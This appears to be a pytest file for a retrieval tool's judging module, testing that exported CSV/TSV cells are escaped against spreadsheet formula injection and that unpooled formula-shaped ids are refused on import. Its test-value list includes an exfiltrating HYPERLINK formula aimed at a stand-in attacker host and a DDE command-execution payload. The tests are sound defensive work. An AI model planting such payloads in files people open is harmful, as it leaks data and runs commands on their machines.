"""Spreadsheet formula injection (issue #11 item 5): every CSV/TSV a person may open is
written with formula cells escaped (OWASP: a leading single quote), read back exactly, and
``judge import`` refuses formula-shaped ids that ``judge pool`` did not pool."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from pytest_retrieval.cli import main as cli_main
from pytest_retrieval.errors import ConfigError
from pytest_retrieval.judge.annotations import (
    read_annotations,
    read_pairs,
    read_pooled_pairs,
    write_annotation_file,
)
from pytest_retrieval.judge.clicks import ClickGrading, ClickJudgments, PairStats, write_click_judgments
from pytest_retrieval.judge.files import (
    from_spreadsheet_cell,
    is_formula_shaped,
    to_spreadsheet_cell,
)
from pytest_retrieval.judge.merge import import_annotations
from pytest_retrieval.judge.pool import PoolPair

# cells a spreadsheet runs (or mangles) and their harmless neighbours
HOSTILE_CELLS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+33 1 23",
    "-1",
    "-0.5",
    "-",
    "--",
    "-abc",
    "@SUM(A1:A9)",
    "\tindented",
    "\rreturn",
    "'=already quoted",
    "''=twice",
    "'-1",
    "'",
    "'plain",
    "plain",
    "a=b",
    "",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_the_cell_rule_round_trips_and_never_starts_a_formula(value: str) -> None:
    cell = to_spreadsheet_cell(value)
    assert from_spreadsheet_cell(cell) == value
    assert not cell or cell[0] not in "=+-@\t\r"


def test_formula_shape_spares_plain_numbers() -> None:
    assert not any(is_formula_shaped(v) for v in ("-1", "+3.5", "-2e3", "d1", "", "'=x"))
    assert all(is_formula_shaped(v) for v in ("-1+2", "=1", "@x", "-", "-abc", "+ 1", "\tx", "\rx"))


def _pairs() -> list:
    return [
        PoolPair(v if v else "q", f"query {v}", v if v else "d", f"title {v}", v or "t")
        for v in HOSTILE_CELLS
        if v.strip() == v  # ids are stripped on reading; leading whitespace is tried in texts
    ] + [PoolPair("q-text", "\rquery", "d-text", "\ttitle", "\r\n@text")]


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_annotation_files_escape_every_formula_cell_and_read_back_exactly(
    tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"pool{suffix}"
    pairs = _pairs()
    write_annotation_file(pairs, path)
    with open(path, encoding="utf-8", newline="") as fh:
        raw = list(csv.reader(fh, delimiter="\t" if suffix == ".tsv" else ","))
    cells = [c for row in raw[1:] for c in row]
    assert cells and not [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert "'-1" in cells and "'=1+2" in cells and "'''=twice" in cells
    back = {(p.query_id, p.doc_id): p for p in read_pairs(path)}
    for p in pairs:
        got = back[(p.query_id, p.doc_id)]
        assert (got.query, got.title, got.text) == (p.query, p.title, p.text)


def _fill(path: Path, grade: str = "1") -> Path:
    """A person grades every row and saves without the quotes, as a spreadsheet does."""
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    out = path.with_name("filled.csv")
    with open(out, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(rows[0])
        for r in rows[1:]:
            w.writerow([from_spreadsheet_cell(c) for c in r[:-1]] + [grade])
    return out


def test_import_accepts_pooled_formula_ids_and_refuses_the_rest(tmp_path: Path) -> None:
    pool = tmp_path / "pool.csv"
    write_annotation_file([PoolPair("-1", "q", "-d7", "", "x"), PoolPair("q2", "q", "=1+2", "", "y")], pool)
    pooled = read_pooled_pairs(pool)
    assert pooled == {("-1", "-d7"), ("q2", "=1+2")}
    # quotes kept (our own file, filled in a text editor): read back exactly
    kept = tmp_path / "kept.csv"
    kept.write_text(pool.read_text(encoding="utf-8").replace(",\n", ",2\n"), encoding="utf-8")
    assert read_annotations(kept, pooled=pooled).grades == {"-1": {"-d7": 2}, "q2": {"=1+2": 2}}
    # quotes dropped by a spreadsheet: the same labels, given the pooled set
    filled = _fill(pool)
    result = import_annotations([filled], {}, pooled=pooled)
    assert result.qrels == {"-1": {"-d7": 1}, "q2": {"=1+2": 1}}
    # without the pooled set a formula-shaped id is refused (a plain number such as -1 is not one)
    with pytest.raises(ConfigError) as err:
        import_annotations([filled], {})
    msg = str(err.value)
    assert msg.startswith(f"{filled}:2: document id '-d7' starts with '-' like a spreadsheet formula")
    assert "--pool" in msg and "\n" not in msg
    # a formula-shaped id that was never pooled: refused even with the pooled set
    filled.write_text('query_id,doc_id,grade\nq2,"=HYPERLINK(""http://x"")",3\n', encoding="utf-8")
    with pytest.raises(
        ConfigError, match=r"filled.csv:2: document id '=HYPERLINK.*is not among the pooled pairs"
    ):
        import_annotations([filled], {}, pooled=pooled)
    # JSONL is not a spreadsheet file: read as written
    j = tmp_path / "a.jsonl"
    j.write_text('{"query_id": "q", "doc_id": "=x", "grade": 1}\n', encoding="utf-8")
    assert read_annotations(j).grades == {"q": {"=x": 1}}


def test_cli_pool_note_and_import_with_pool(tmp_path: Path, capsys) -> None:
    pool = tmp_path / "pool.csv"
    write_annotation_file([PoolPair("q1", "q", "-d7", "", "x")], pool)
    filled = _fill(pool, "2")
    qrels = tmp_path / "qrels.txt"
    assert cli_main(["judge", "import", str(filled), "--qrels", str(qrels)]) == 2
    err = capsys.readouterr().err
    assert "document id '-d7' starts with '-' like a spreadsheet formula" in err and "Traceback" not in err
    assert not qrels.exists()
    assert cli_main(["judge", "import", str(filled), "--qrels", str(qrels), "--pool", str(pool)]) == 0
    assert qrels.read_text() == "q1 0 -d7 2\n"


def test_click_evidence_cells_are_escaped(tmp_path: Path) -> None:
    st = PairStats(impressions=3, clicks=1, examinations=2.0)
    result = ClickJudgments(
        qrels={"=q": {"@d": 1}}, queries={"=q": "x"}, stats={("=q", "@d"): st}, grading=ClickGrading()
    )
    stats = tmp_path / "ev.tsv"
    write_click_judgments(result, tmp_path / "q.jsonl", None, stats)
    lines = stats.read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith("query_id\tdoc_id\timpressions")
    assert lines[1] == "'=q\t'@d\t3\t1\t0\t2.0000\t0.5000\t0.0000\t1"
